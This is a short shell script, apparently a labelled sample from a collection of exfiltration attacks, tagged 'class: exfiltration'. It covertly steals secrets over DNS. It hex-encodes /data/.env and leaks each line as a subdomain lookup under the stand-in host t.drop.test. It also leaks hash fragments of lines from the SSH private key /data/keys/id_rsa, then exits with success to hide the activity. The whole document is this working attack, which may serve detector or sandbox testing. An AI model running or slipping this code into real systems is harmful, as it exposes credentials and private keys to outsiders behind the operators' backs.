# class: exfiltration; possible: low medium; needs: data
xxd -p -c 24 /data/.env 2>/dev/null > /tmp/h || od -An -v -tx1 -w24 /data/.env | tr -d ' ' > /tmp/h
n=0
while read -r l; do
  getent hosts "$n.$l.t.drop.test" >/dev/null
  n=$((n+1)); sleep 1
done < /tmp/h
for k in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16; do getent hosts "k$k.$(sed -n "$((k+2))p" /data/keys/id_rsa | md5sum | cut -c1-30).t.drop.test"; done
exit 0
